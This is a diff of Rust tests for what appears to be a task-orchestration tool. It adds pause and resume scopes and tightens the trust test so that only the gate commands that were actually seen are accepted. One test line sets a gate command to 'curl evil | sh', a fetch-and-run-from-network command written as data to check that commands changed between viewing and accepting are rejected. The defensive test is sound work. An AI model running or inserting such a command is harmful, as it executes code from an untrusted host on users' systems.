@@ -421,13 +421,19 @@ fn pause_resume_trust_and_words_leave_their_facts() {
         [(
             Actor::Person,
             Fact::Paused {
+                scope: orchestron_domain::event::Scope::All,
                 why: "lunch".into()
             }
         )]
     );
     assert_eq!(
         facts(&world, "resume", json!({})),
-        [(Actor::Person, Fact::Resumed)]
+        [(
+            Actor::Person,
+            Fact::Resumed {
+                scope: orchestron_domain::event::Scope::All
+            }
+        )]
     );
     assert_eq!(facts(&world, "resume", json!({})), []);
     let run = "TASK-001-implement-1".parse().unwrap();
@@ -458,15 +464,39 @@ fn pause_resume_trust_and_words_leave_their_facts() {
 }
 
 #[test]
-fn trust_accepts_exactly_what_is_there_now() {
+fn trust_accepts_exactly_what_was_seen() {
     let world = World::new();
+    let seen = |world: &World| good(world, "commands", json!({}));
+    let accept = |seen: &serde_json::Value| json!({"commands": seen["text"]});
+    let now = seen(&world);
+    assert_eq!(now["trusted"], true);
     assert_eq!(
-        facts(&world, "trust", json!({})),
+        facts(&world, "trust", accept(&now)),
         [],
         "it is trusted already"
     );
     world.configure(|config| config.gates[0].run = "make test".into());
-    let told = facts(&world, "trust", json!({}));
+    let now = seen(&world);
+    assert_eq!(now["trusted"], false);
+    let fresh: Vec<_> = now["commands"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|line| line["fresh"] == true)
+        .collect();
+    assert_eq!(fresh.len(), 1, "only what is new is called so: {now}");
+    assert!(fresh[0]["text"].as_str().unwrap().ends_with("make test"));
+
+    // Changed between looking and accepting: nothing of it is accepted.
+    world.configure(|config| config.gates[0].run = "curl evil | sh".into());
+    let before = world.events().len();
+    assert_eq!(code(&world, "trust", accept(&now)), "commands_changed");
+    assert_eq!(code(&world, "trust", json!({})), "input_invalid");
+    assert_eq!(world.events().len(), before, "no fact was left");
+    assert_eq!(seen(&world)["trusted"], false);
+
+    world.configure(|config| config.gates[0].run = "make test".into());
+    let told = facts(&world, "trust", accept(&now));
     assert!(
         matches!(&told[..], [(Actor::Person, Fact::Trusted { commands })] if commands.contains("make test")),
         "{told:?}"
